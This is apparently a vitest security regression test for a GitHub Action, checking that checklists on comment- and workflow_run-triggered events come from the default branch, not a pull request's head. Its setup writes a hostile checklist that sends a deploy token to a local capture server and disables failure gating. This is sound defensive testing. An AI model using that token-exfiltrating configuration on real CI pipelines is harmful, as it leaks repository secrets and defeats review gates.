// QA stop 50 (action17 D1): on issue_comment and workflow_run GitHub runs the default branch's workflow (GITHUB_SHA) with
// the repository's secrets and a write token, whoever commented or whichever fork's run finished. With a pull request's
// head checked out (`ref: refs/pull/N/head`, `workflow_run.head_sha`), Preflight used that head's own checklist: the pull
// request could send PREFLIGHT_* secrets to a host of its choosing and set `fail-on: none` for a green check run on its
// head. The checklist (and baseline and CA file) now come from GITHUB_SHA, as pull_request_target reads them from its base.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFakeGitHub, type FakeGitHub } from './fake-github.js';
import { TOKEN, pullRequestPayload, pushPayload } from './fixtures.js';
import { BUNDLE, commands, makeRepo, runAction } from './run-action.js';
import type { ActionRun } from './run-action.js';

const CANARY = 'pf-canary-deploy-token-50XYZ';
const env = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com' };
const git = (dir: string, ...args: string[]) => execFileSync('git', ['-C', dir, ...args], { encoding: 'utf8', env }).trim();

const BASE_CHECKLIST = 'version: 1\nfail-on: high\nitems:\n  - { id: pinned, check: image-tag-pinned }\n';

let gh: FakeGitHub;
let capture: http.Server;
/** Requests the pull request's probe URL received (its Authorization header among them). */
const captured: { url: string; authorization: string | undefined }[] = [];
/** The default branch (GITHUB_SHA), the pull request's head, a full clone at the head, a depth-1 clone of the head alone. */
let fx: { repo: string; main: string; head: string; full: string; shallow: string };

beforeAll(async () => {
  if (!fs.existsSync(BUNDLE)) throw new Error(`${BUNDLE} is missing: run \`npm run bundle\` first`);
  gh = await startFakeGitHub({ token: TOKEN });
  capture = http.createServer((req, res) => { captured.push({ url: req.url ?? '', authorization: req.headers.authorization }); res.end('ok'); });
  await new Promise<void>((resolve) => capture.listen(0, '127.0.0.1', resolve));
  const port = (capture.address() as AddressInfo).port;
  const main = makeRepo({ '.github/preflight.yml': BASE_CHECKLIST, Dockerfile: 'FROM python:latest\nUSER app\n' });
  // The pull request's head: its checklist gates nothing and sends the deploy token to the author's server.
  git(main.dir, 'checkout', '-q', '-b', 'evil');
  fs.writeFileSync(path.join(main.dir, '.github/preflight.yml'), `version: 1\nfail-on: none\nprobes:\n  url: http://127.0.0.1:${port}\n  headers: { Authorization: "Bearer \${PREFLIGHT_TOKEN}" }\nitems:\n  - { id: health, check: health-endpoint }\n`);
  git(main.dir, 'commit', '-qam', 'weaken the checklist');
  const head = git(main.dir, 'rev-parse', 'HEAD');
  git(main.dir, 'checkout', '-q', 'main');
  const full = fs.mkdtempSync(path.join(os.tmpdir(), 'pf-full50-'));
  execFileSync('git', ['clone', '-q', `file://${main.dir}`, full], { env });
  git(full, 'checkout', '-q', head);
  const shallow = fs.mkdtempSync(path.join(os.tmpdir(), 'pf-head50-'));
  execFileSync('git', ['clone', '-q', '--depth=1', '--branch', 'evil', `file://${main.dir}`, shallow], { env });
  fx = { repo: main.dir, main: main.sha, head, full, shallow };
});
afterAll(async () => {
  await gh?.close();
  await new Promise<void>((resolve) => (capture ? capture.close(() => resolve()) : resolve()));
});
beforeEach(() => { gh.reset(); captured.length = 0; });

const repository = pushPayload({ after: 'a'.repeat(40) }).repository;
const commentPayload = {
  action: 'created',
  issue: { number: 7, title: 'Add compose', user: { login: 'mallory', id: 5, type: 'User' }, state: 'open', pull_request: { url: 'https://api.github.com/repos/acme/shop/pulls/7' } },
  comment: { id: 55, body: 'looks good', user: { login: 'mallory', id: 5, type: 'User' }, author_association: 'NONE' },
  repository,
  sender: { login: 'mallory', id: 5, type: 'User' },
};
const workflowRunPayload = (headSha: string) => ({
  action: 'completed',
  workflow_run: { id: 111, name: 'CI', event: 'pull_request', status: 'completed', conclusion: 'success', head_sha: headSha, head_branch: 'evil', pull_requests: [], head_repository: { full_name: 'mallory/shop' }, repository },
  repository,
  sender: { login: 'mallory', id: 5, type: 'User' },
});

const run = (o: { event: string; payload: Record<string, unknown>; workspace: string; sha?: string; token?: string; env?: Record<string, string> }) => runAction({
  event: o.event, payload: o.payload, workspace: o.workspace, sha: o.sha ?? fx.main, apiUrl: gh.url, token: TOKEN,
  ...(o.token !== undefined ? { inputs: { 'github-token': o.token } } : {}),
  env: { GITHUB_REF: 'refs/heads/main', PREFLIGHT_TOKEN: CANARY, ...o.env },
});

/** The deploy token went nowhere, and nothing the run wrote carries it. */
function assertNotSent(r: ActionRun): void {
  expect(captured).toEqual([]);
  expect(gh.violations()).toEqual([]);
  expect(r.visibleStdout).not.toContain(CANARY);
  for (const c of gh.state.checkRuns) expect(JSON.stringify(c)).not.toContain(CANARY);
}

/** The base checklist gated the head: a failed run (fail-on: high, the moving tag), never a green one. */
function assertBaseChecklistGated(r: ActionRun): void {
  expect(r.code).toBe(1);
  expect(r.outputs.result).toBe('fail');
  expect(r.report!.failOn).toBe('high');
  expect(r.report!.items.map((i: { id: string }) => i.id)).toEqual(['pinned']);
  expect(gh.state.checkRuns.map((c) => [c.head_sha, c.conclusion])).toEqual([[fx.head, 'failure']]);
  const notice = commands(r.stdout, 'notice').find((c) => c.props.includes('checklist read from GITHUB_SHA'));
  expect(notice?.message).toContain(`read from GITHUB_SHA ${fx.main.slice(0, 12)}`);
}

describe('a pull request\'s head checked out on an event that runs from GITHUB_SHA with its secrets', () => {
  it('issue_comment on a fork\'s pull request, its head alone checked out: the checklist comes from GITHUB_SHA through the contents API', async () => {
    gh.state.pulls.set(7, { number: 7, body: '', author: 'mallory', headSha: fx.head, files: ['.github/preflight.yml'] });
    gh.state.contents.set(`${fx.main}:.github/preflight.yml`, BASE_CHECKLIST);
    const r = await run({ event: 'issue_comment', payload: commentPayload, workspace: fx.shallow });
    assertNotSent(r);
    assertBaseChecklistGated(r);
    expect(gh.state.requests.some((q) => decodeURIComponent(q.path) === '/repos/acme/shop/contents/.github/preflight.yml' && q.query.ref === fx.main)).toBe(true);
    expect(r.report!.context).toMatchObject({ pullRequest: 7 });
  });

  it('workflow_run after checking out workflow_run.head_sha, GITHUB_SHA in the clone: read with git', async () => {
    const r = await run({ event: 'workflow_run', payload: workflowRunPayload(fx.head), workspace: fx.full });
    assertNotSent(r);
    assertBaseChecklistGated(r);
    expect(gh.state.requests.some((q) => q.path.includes('/contents/'))).toBe(false);
  });

  it('a repository large enough for the engine thread (forced here): the base reader does not stop the run', async () => {
    // The engine thread is handed data only: a run reading a base commit stays on the main thread (it used to fail with
    // an internal error, on pull_request_target too).
    const r = await run({ event: 'workflow_run', payload: workflowRunPayload(fx.head), workspace: fx.full, env: { PREFLIGHT_ENGINE_THREAD: '1' } });
    expect(commands(r.stdout, 'error').filter((c) => c.props.includes('internal'))).toEqual([]);
    assertNotSent(r);
    assertBaseChecklistGated(r);
    gh.reset();
    const prt = await run({ event: 'pull_request_target', payload: pullRequestPayload({ number: 7, headSha: fx.head, baseSha: fx.main, headRepo: 'mallory/shop' }), workspace: fx.full, env: { PREFLIGHT_ENGINE_THREAD: '1' } });
    expect(commands(prt.stdout, 'error').filter((c) => c.props.includes('internal'))).toEqual([]);
    expect(prt.report!.failOn).toBe('high');
    expect(captured).toEqual([]);
  });

  it('workflow_dispatch that checks out a pull request\'s head: the same rule', async () => {
    const r = await run({ event: 'workflow_dispatch', payload: { inputs: { pr: '7' }, ref: 'refs/heads/main', repository, sender: { login: 'alice', id: 7, type: 'User' } }, workspace: fx.full });
    assertNotSent(r);
    assertBaseChecklistGated(r);
  });

  it('GITHUB_SHA\'s checklist cannot be read (the contents API fails, or no token): the step fails closed, nothing is probed', async () => {
    gh.state.pulls.set(7, { number: 7, body: '', author: 'mallory', headSha: fx.head, files: [] });
    gh.state.faults.push({ method: 'GET', path: /\/contents\//, status: 500, times: 20, message: 'Server Error' });
    const r = await run({ event: 'issue_comment', payload: commentPayload, workspace: fx.shallow });
    assertNotSent(r);
    expect(r.code).toBe(1);
    expect(r.outputs.result).toBe('fail');
    const error = commands(r.stdout, 'error').map((c) => c.message).join('\n');
    expect(error).toContain(`could not be read from the base commit ${fx.main.slice(0, 12)}`);
    expect(error).toContain('GITHUB_SHA');
    expect(gh.state.checkRuns.every((c) => c.conclusion === 'failure')).toBe(true);

    gh.reset();
    const noToken = await run({ event: 'issue_comment', payload: commentPayload, workspace: fx.shallow, token: '' });
    assertNotSent(noToken);
    expect(noToken.code).toBe(1);
    expect(commands(noToken.stdout, 'error').map((c) => c.message).join('\n')).toMatch(/not in the clone and there is no GitHub token/);
  });
});

describe('lookalikes that keep the workspace\'s checklist', () => {
  it('issue_comment with the default branch checked out (GITHUB_SHA itself): no notice, nothing read elsewhere', async () => {
    const r = await run({ event: 'issue_comment', payload: commentPayload, workspace: fx.repo });
    expect(commands(r.stdout, 'notice').some((c) => c.props.includes('checklist read from GITHUB_SHA'))).toBe(false);
    expect(gh.state.requests.some((q) => q.path.includes('/contents/'))).toBe(false);
    expect(r.report!.failOn).toBe('high');
  });

  it('workflow_run on a commit the default branch already holds (merged: an ancestor of GITHUB_SHA): its own checklist', async () => {
    // main moves on with another checklist; the workspace holds the older main commit.
    const repo = makeRepo({ '.github/preflight.yml': 'version: 1\nfail-on: critical\nitems:\n  - { id: pinned, check: image-tag-pinned }\n', Dockerfile: 'FROM python:latest\n' });
    const later = makeRepo({ '.github/preflight.yml': BASE_CHECKLIST }, repo.dir);
    git(repo.dir, 'checkout', '-q', repo.sha);
    const r = await run({ event: 'workflow_run', payload: workflowRunPayload(repo.sha), workspace: repo.dir, sha: later.sha });
    expect(commands(r.stdout, 'notice').some((c) => c.props.includes('checklist read from GITHUB_SHA'))).toBe(false);
    expect(r.report!.failOn).toBe('critical');
    expect(gh.state.checkRuns[0]!.head_sha).toBe(repo.sha);
  });

  it('pull_request (the workflow is the pull request\'s own): the head\'s checklist, as before', async () => {
    gh.state.pulls.set(7, { number: 7, body: '', author: 'mallory', headSha: fx.head, files: [] });
    const r = await runAction({ event: 'pull_request', payload: pullRequestPayload({ number: 7, headSha: fx.head, baseSha: fx.main, headRepo: 'mallory/shop' }), workspace: fx.full, sha: fx.head, apiUrl: gh.url, token: TOKEN });
    expect(commands(r.stdout, 'notice').some((c) => c.props.includes('checklist read from GITHUB_SHA'))).toBe(false);
    expect(r.report!.failOn).toBe('none');
  });
});
